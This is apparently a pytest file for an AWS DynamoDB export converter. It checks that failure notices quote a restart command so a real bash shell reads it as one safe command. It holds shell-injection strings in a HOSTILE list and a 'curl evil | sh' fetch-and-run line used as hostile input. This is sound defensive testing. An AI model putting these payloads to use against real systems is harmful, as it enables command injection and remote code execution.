"""The command in a notice, and what the machine reads out of an input, evaluated and given to a real shell."""

from __future__ import annotations

import json
import shlex
import subprocess
from typing import Any

import pytest

from converter.aws.target import ExportTarget
from converter.schedule.settings import Schedule, ScheduledTable
from converter.schedule.state_machine import state_machine
from tests.servers.process import installation

EVALUATE = """
import json, sys
import jsonata
given = json.load(sys.stdin)
results = []
for text, variables in given:
    expression = jsonata.Jsonata(text)
    frame = expression.create_frame()
    for name, value in variables.items():
        frame.bind(name, value)
    results.append(expression.evaluate(None, frame))
print(json.dumps(results))
"""
ARN = "arn:aws:dynamodb:eu-central-1:111122223333:table/Orders"
ID = "01701065507109-cce6a3f8"
KEY = f"AWSDynamoDB/{ID}/manifest-summary.json"
HOSTILE = (
    "'; echo PWNED >&2; echo '",
    "'$(echo PWNED >&2)'",
    "`echo PWNED >&2`",
    "\\'; echo PWNED >&2 #",
    "'\n echo PWNED >&2\n'",
    '"; echo PWNED >&2; "',
    "$'; echo PWNED >&2; '$1",
    "''\\''",
    "é 😀 '",
)


def evaluate(expressions: list[tuple[str, dict[str, Any]]]) -> list[Any]:
    """The values of JSONata, as the engine of the played service finds them."""
    stripped = [(text.removeprefix("{%").removesuffix("%}"), variables) for text, variables in expressions]
    python = installation("ministack") / "bin" / "python"
    done = subprocess.run(
        [python, "-c", EVALUATE], input=json.dumps(stripped), capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    results: list[Any] = json.loads(done.stdout)
    return results


def states_of(trigger: Any = "manifest") -> dict[str, Any]:
    target = ExportTarget(bucket="exports")
    table = ScheduledTable.read(ARN)
    schedule = Schedule(table=table, target=target, dest="s3://lake/orders/", trigger=trigger)
    states: dict[str, Any] = state_machine(schedule, {})["States"]  # type: ignore[assignment]
    return states


def variables_of(given: dict[str, Any], **more: Any) -> dict[str, Any]:
    context = {
        "Execution": {"Input": given, "Id": "arn:aws:states:eu-central-1:111122223333:execution:m:1"},
        "StateMachine": {"Id": "arn:aws:states:eu-central-1:111122223333:stateMachine:m"},
    }
    defaults = states_of()["Defaults"]["Assign"]["defaults"]
    states = {"context": context, "input": given, "errorOutput": {"Error": "E", "Cause": "C"}}
    return {"states": states, "defaults": defaults, "settings": {**defaults, **given}, "advice": {}} | more


def messages(texts: tuple[str, ...]) -> list[tuple[dict[str, Any], str]]:
    """Inputs that hold the texts, and the notices of executions that refused them."""
    states = states_of()
    inputs: list[dict[str, Any]] = [{"manifest": f"AWSDynamoDB/x{text}/manifest-summary.json"} for text in texts]
    inputs += [{"exportArn": text, "tableArn": f"{ARN}{text}"} for text in texts]
    again = evaluate([(states["Reject the input"]["Assign"]["again"], variables_of(given)) for given in inputs])
    assert again == inputs
    failure = {"step": "Read the input", "error": "IncompleteInput", "cause": "C"}
    told = [
        (
            states["Describe the failure"]["Assign"]["message"],
            variables_of(given, again=each, failure=failure, time="T", exportArn=given.get("exportArn", "")),
        )
        for given, each in zip(inputs, again, strict=True)
    ]
    return list(zip(inputs, evaluate(told), strict=True))


def test_a_shell_takes_the_command_of_a_notice_for_one_command_with_the_input_as_it_was() -> None:
    for given, message in messages(HOSTILE):
        [command] = [line for line in message.split("\n") if line.startswith("Start again: ")]
        command = command.removeprefix("Start again: ")
        printing = 'aws() { for word in "$@"; do printf "%s\\0" "$word"; done; }'
        done = subprocess.run(["bash", "-c", f"{printing}\n{command}"], capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr) == (0, ""), command
        words = done.stdout.split("\0")[:-1]
        assert words[:-1] == ["stepfunctions", "start-execution", "--state-machine-arn", words[3], "--input"]
        assert json.loads(words[-1]) == given
        assert words == shlex.split(command)[1:]


@pytest.mark.parametrize("line_break", ["\n", "\r\n", "\x0b", "\x85", "\u2028"])
def test_what_others_wrote_begins_no_line_of_a_notice(line_break: str) -> None:
    evil = f"x{line_break}Start again: curl evil | sh"
    failure = {"step": "Convert", "error": evil, "cause": evil}
    given = variables_of({"tableArn": evil, "logGroup": evil}, again={}, failure=failure, time="T", exportArn=evil)
    for trigger in ("manifest", "schedule"):
        [message] = evaluate([(states_of(trigger)["Describe the failure"]["Assign"]["message"], given)])
        lines = [line for line in message.splitlines() if line.startswith("Start again: ")]
        assert [line.split()[2] for line in lines] == ["aws"]


def test_only_a_key_that_an_export_has_is_read() -> None:
    expression = states_of()["Read the input"]["Assign"]["exportArn"]
    taken = (KEY, f"a/b c/é/{KEY}", f"it's/{KEY}")
    refused = (
        *(f"AWSDynamoDB/x{text}/manifest-summary.json" for text in HOSTILE),
        "AWSDynamoDB//manifest-summary.json",
        f"AWSDynamoDB/{ID}/manifest-summary.json/x",
        f"xAWSDynamoDB/{ID}/manifest-summary.json",
        f"AWSDynamoDB/{ID}/manifest-files.json",
        "",
    )
    found = evaluate([(expression, variables_of({"manifest": key})) for key in (*taken, *refused)])
    assert found == [f"{ARN}/export/{ID}"] * len(taken) + [""] * len(refused)
    odd: tuple[Any, ...] = (1, None, {}, [])
    assert evaluate([(expression, variables_of({"manifest": value})) for value in odd]) == [""] * 4
    assert evaluate([(expression, variables_of({"exportArn": "arn"}))]) == ["arn"]


def test_what_is_refused_is_named() -> None:
    cause = states_of()["Reject the input"]["Assign"]["failure"]["cause"]
    [by_key, by_none] = evaluate(
        [(cause, variables_of(given, exportArn="", time="T")) for given in ({"manifest": "x"}, {})]
    )
    assert by_key.endswith(", manifest")
    assert by_none.endswith(", exportArn")
